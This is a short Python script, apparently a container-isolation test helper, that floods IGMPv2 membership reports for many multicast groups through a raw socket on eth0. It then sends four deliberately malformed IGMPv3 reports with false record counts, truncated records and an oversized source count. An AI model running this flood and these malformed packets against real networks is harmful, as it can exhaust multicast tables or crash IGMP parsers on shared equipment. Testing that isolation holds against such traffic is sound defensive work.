#!/usr/bin/python3
"""IGMP a container should not be trusted with, from inside it (raw socket, out of eth0):

  igmp_flood.py COUNT   # COUNT IGMPv2 reports for distinct groups 239.10.0.0 upwards, then
                        # malformed IGMPv3 reports (records promised and missing, truncated)
Prints {"sent": N}.
"""
import json
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def main(count):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_IGMP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    sent = 0
    for i in range(count):
        group = socket.inet_aton("239.10.%d.%d" % (i // 256, i % 256))
        msg = struct.pack("!BBH4s", 0x16, 0, 0, group)
        msg = struct.pack("!BBH4s", 0x16, 0, checksum(msg), group)
        s.sendto(msg, (socket.inet_ntoa(group), 0))
        sent += 1
    for bad in [
        b"\x22\x00\x00\x00\x00\x00\xff\xff",  # 65535 records promised, none there
        b"\x22\x00\x00\x00\x00\x00\x00\x02\x04\x00\x00\x05\xef\x0b",  # cut inside a record
        b"\x22\x00\x00\x00\x00\x00\x00\x01\x02\xff\xff\xff\xef\x0b\x00\x01",  # huge source count
        b"\x16",  # a v2 report of one byte
    ]:
        s.sendto(bad, ("224.0.0.22", 0))
        sent += 1
    print(json.dumps({"sent": sent}))


if __name__ == "__main__":
    main(int(sys.argv[1]))
